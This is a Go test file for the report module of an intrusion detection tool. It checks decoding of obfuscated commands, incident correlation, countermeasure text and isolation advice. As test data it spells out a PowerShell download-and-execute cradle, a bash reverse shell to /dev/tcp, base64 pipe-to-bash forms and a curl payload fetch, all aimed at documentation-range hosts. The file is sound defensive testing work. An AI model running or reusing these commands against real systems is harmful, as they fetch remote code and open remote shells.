package report

import (
	"bytes"
	"encoding/base64"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/tocsin-ids/tocsin"
)

func wide(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestDecoded(t *testing.T) {
	const call = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/a')"
	narrow := base64.StdEncoding.EncodeToString([]byte("bash -i >& /dev/tcp/203.0.113.80/443 0>&1"))
	long := wide(strings.Repeat(call, 9))
	for _, tt := range []struct{ name, line, want string }{
		{"PowerShell", "powershell.exe -NoP -Enc " + wide(call), call},
		{"a pipe", "bash -c {echo," + narrow + "}|{base64,-d}|{bash,-i}", "bash -i >& /dev/tcp/203.0.113.80/443 0>&1"},
		{"cut in its middle", "powershell -enc " + long[:201] + " … " + long[len(long)-80:], strings.Repeat(call, 2)[:73]},
		{"nothing decodes it", "curl -H token:" + narrow + " http://203.0.113.80/", ""},
		{"no text", "powershell -enc " + base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{1, 2, 250}, 20)), ""},
		{"a path", "openssl base64 -in /usr/share/doc/examples/archive", ""},
		{"masked", "powershell -enc ***", ""},
	} {
		got, from, to := decoded(tt.line)
		if !strings.HasPrefix(got, tt.want) || (got == "") != (tt.want == "") || got != "" && (from >= to || to > len(tt.line)) {
			t.Errorf("%s: got %q at %d to %d, want %q", tt.name, got, from, to, tt.want)
		}
	}
}

func FuzzDecoded(f *testing.F) {
	f.Add("powershell -enc " + wide("whoami /all; hostname"))
	f.Add("echo AAAAAAAAAAAAAAAAAAAAAAAAAAAAA | base64 -d … AAAA")
	f.Fuzz(func(t *testing.T, line string) {
		said, from, to := decoded(line)
		if from < 0 || to < from || to > len(line) || len(said) > len(line)*3 {
			t.Errorf("%q at %d to %d", said, from, to)
		}
		a := dossier{w: &english}
		a.command(line)
		concise(line, maxCommand)
	})
}

// A command is decoded once and stands whole once, however often it is told.
func TestCommandOnce(t *testing.T) {
	a := dossier{w: &english}
	line := "powershell.exe -Enc " + wide("Invoke-Thing -Target web1; "+strings.Repeat("x", 90))
	first, again := a.command(line).plain(), a.command(line).plain()
	if !strings.Contains(first, "decoded: Invoke-Thing -Target web1") || strings.Contains(again, "decoded") || len(again) > 100 {
		t.Errorf("got %q, then %q", first, again)
	}
	a.wholeCommands()
	if len(a.lines) != 1 || a.lines[0] != line {
		t.Errorf("in full: %q", a.lines)
	}
}

// A bar in a table ends no cell: it is escaped within the code, and where the text has a backslash before it, outside of it.
func TestBarInCode(t *testing.T) {
	d := document{}
	d.table([]string{"A"}, [][]text{{say(val("id | sh"))}, {say(val(`grep a\|b`))}})
	var b bytes.Buffer
	if err := d.markdown(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "| `id \\| sh` |") || !strings.Contains(b.String(), "| `grep a\\`&#124;`b` |") {
		t.Error(b.String())
	}
}

func relation(handles ...string) *tocsin.Campaign {
	a := &tocsin.Actor{ID: handles[0]}
	for _, h := range handles {
		kind, value, _ := strings.Cut(h, ":")
		a.Handles = append(a.Handles, tocsin.Entity{Kind: kind, Value: value})
	}
	return &tocsin.Campaign{ID: "c-" + handles[0], Actors: []*tocsin.Actor{a}}
}

func TestRelations(t *testing.T) {
	for _, tt := range []struct {
		name string
		all  []*tocsin.Campaign
		want string
	}{
		{"one", []*tocsin.Campaign{relation("address:203.0.113.5")}, ""},
		{"an address", []*tocsin.Campaign{relation("address:203.0.113.5"), relation("address:203.0.113.5")}, "Incidents 1 and 2 have an address in common: 203.0.113.5. What is shared"},
		{"neighbours", []*tocsin.Campaign{relation("address:203.0.113.5"), relation("address:203.0.113.77"), relation("address:198.51.100.1")}, "Incidents 1 and 2 come from neighbouring addresses, in 203.0.113.0/24. What is shared does not show that they are one: it was too little to join them. Nothing in common with any other (address, neighbouring address, machine, account): incident 3."},
		{"private neighbours", []*tocsin.Campaign{relation("address:10.0.0.5"), relation("address:10.0.0.77")}, "Nothing in common with any other (address, neighbouring address, machine, account): incidents 1 and 2."},
		{"a machine and an account", []*tocsin.Campaign{relation("host:web1", "user:ann"), relation("user:ann", "host:web1")}, "Incidents 1 and 2 have a machine in common: web1. Incidents 1 and 2 have an account in common: ann. What"},
	} {
		a := dossier{w: &english}
		if got := a.relations(tt.all).plain(); !strings.HasPrefix(got, tt.want) || tt.want == "" && got != "" {
			t.Errorf("%s: got %q", tt.name, got)
		}
	}
}

// Countermeasures name what was seen, at most five, and every way to come back that was not removed is in one of them.
func TestMeasures(t *testing.T) {
	c := sampleCampaign()
	c.Victims = append(c.Victims, tocsin.Victim{Entity: tocsin.Entity{Kind: "address", Value: "10.1.2.3"}, Reached: true, Tie: tocsin.Core})
	c.Key = append(c.Key, tocsin.KeyEvent{Kind: "impact", Technique: "T1496", What: "bedrock:InvokeModel"})
	a := dossier{w: &english, h: &Hunt{}}
	var all string
	list := a.measures(c)
	for _, m := range list {
		all += m.plain() + "\n"
	}
	if len(list) > maxMeasures {
		t.Errorf("%d measures", len(list))
	}
	for _, want := range []string{"/etc/cron.d/refresh", `SHOP\helpdesk2`, "203.0.113.7", "deny bedrock:InvokeModel to"} {
		if !strings.Contains(all, want) {
			t.Errorf("lacks %s:\n%s", want, all)
		}
	}
	for _, not := range []string{"backups", "task Refresh", "files1"} {
		if strings.Contains(all, not) {
			t.Errorf("has %s:\n%s", not, all)
		}
	}
	if got := a.measures(&tocsin.Campaign{}); len(got) != 0 {
		t.Errorf("of nothing: %v", got)
	}
}

func TestIsolation(t *testing.T) {
	a := dossier{w: &english}
	cluster := relation("principal:system:serviceaccount:shop:web")
	for _, tt := range []struct {
		c          *tocsin.Campaign
		host, want string
	}{
		{&tocsin.Campaign{}, "web1.example", "Isolate, after securing memory and disks: web1.example (cost"},
		{&tocsin.Campaign{}, "corp-dc01.corp.example", "corp-dc01.corp.example looks like a domain controller"},
		{&tocsin.Campaign{}, "cdcweb.example", "Isolate"},
		{cluster, "10.42.0.17", "10.42.0.17 is in a cluster"},
		{&tocsin.Campaign{}, "10.42.0.17", "Isolate, after securing memory and disks: 10.42.0.17 (cost: what these machines serve stops); find out which machine had 10.42.0.17"},
	} {
		if got := a.isolation(tt.c, []string{tt.host}).plain(); !strings.HasPrefix(got, tt.want) {
			t.Errorf("%s: got %q", tt.host, got)
		}
	}
}

// What is one act is one row, with all that it is.
func TestSameAct(t *testing.T) {
	p := []tocsin.Place{{Source: "a.log", Record: 7}}
	at := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
	got := sameAct([]tocsin.KeyEvent{{Kind: "sign", What: "x", Time: at, Places: p}, {Kind: "entry", What: "x", Time: at, Places: p}, {Kind: "last", What: "x", Time: at, Places: []tocsin.Place{{Source: "a.log", Record: 8}}}, {Kind: "impact", What: "y", Time: at, Places: p}})
	if len(got) != 3 || len(got[0]) != 2 || got[0][1].Kind != "entry" {
		t.Errorf("got %d rows", len(got))
	}
}

// Many things that are not to be blocked are told by their role and reason.
func TestTouchedGrouped(t *testing.T) {
	c := &tocsin.Campaign{}
	for i := range 30 {
		c.Touched = append(c.Touched, tocsin.Indicator{Entity: tocsin.Entity{Kind: "address", Role: []string{"near", "mail"}[i%2], Value: "192.0.2." + string(rune('0'+i%10))}, Why: "An alert names it."})
	}
	a := dossier{w: &english}
	a.touched(c)
	for _, b := range a.blocks {
		if b.kind == grid && len(b.rows) != 2 {
			t.Errorf("%d rows", len(b.rows))
		}
	}
}

func TestFrontWordsAreWhole(t *testing.T) {
	places := regexp.MustCompile(`\{\d\}`)
	eachWord(t, "", frontIn["en"], frontIn["fr"], func(name, en, fr string) {
		if (en == "") != (fr == "") || len(places.FindAllString(en, -1)) != len(places.FindAllString(fr, -1)) {
			t.Errorf("%s: %q but %q", name, en, fr)
		}
		if en == "" {
			t.Errorf("%s is empty", name)
		}
	})
	for _, k := range tocsin.FootholdKinds {
		if frontIn["en"].kinds[k] == "" {
			t.Errorf("%s has no name", k)
		}
	}
}

// Of a server that was made to run something, nobody is told as who did it but where it was made to speak to; the measure names the
// service.
func TestRanByServer(t *testing.T) {
	c := &tocsin.Campaign{ID: "c-1", Level: tocsin.High,
		Actors:  []*tocsin.Actor{{ID: `user:web1\tomcat`, Handles: []tocsin.Entity{{Kind: "user", Value: `web1\tomcat`}}, Tie: tocsin.Core}},
		Victims: []tocsin.Victim{{Entity: tocsin.Entity{Kind: "host", Value: "web1"}, Reached: true, Tie: tocsin.Core}},
		Key: []tocsin.KeyEvent{
			{Kind: "entry", Host: "web1", Account: `web1\tomcat`, Technique: "T1190", What: "sh -c id", Tie: tocsin.Core},
			{Kind: "download", Host: "web1", What: "curl http://203.0.113.80/a", On: []string{"address:203.0.113.80", "url:http://203.0.113.80/a"}, Tie: tocsin.Core},
			{Kind: "control", Host: "web1", What: "198.51.100.9:443", On: []string{"address:198.51.100.9", "host:web1"}, Tie: tocsin.Core},
		}}
	a := dossier{w: &english, h: &Hunt{}}
	check := func(got text, want ...string) {
		t.Helper()
		for _, s := range want {
			if !strings.Contains(got.plain(), s) {
				t.Errorf("%q lacks %q", got.plain(), s)
			}
		}
	}
	check(a.frontWho(c), `not known; it was done as web1\tomcat, the account of the service`, "fetched from: 198.51.100.9, 203.0.113.80.")
	check(a.frontIn(c), "a service was made to run sh -c id, on web1")
	check(joinTexts(a.measures(c), " "), `the service that runs as web1\tomcat, on web1, which was made to run sh -c id`)
	c.Key[0].Server = "tomcat9"
	check(a.frontIn(c), "the service tomcat9 was made to run sh -c id")
	check(joinTexts(a.measures(c), " "), "the service tomcat9 on web1, which was made to run sh -c id")
	c.Key[0].From, c.Key[0].Server = "203.0.113.7", "" // a request is known
	if got := a.frontIn(c).plain(); strings.Contains(got, "made to run") {
		t.Errorf("of a request: %s", got)
	}
}
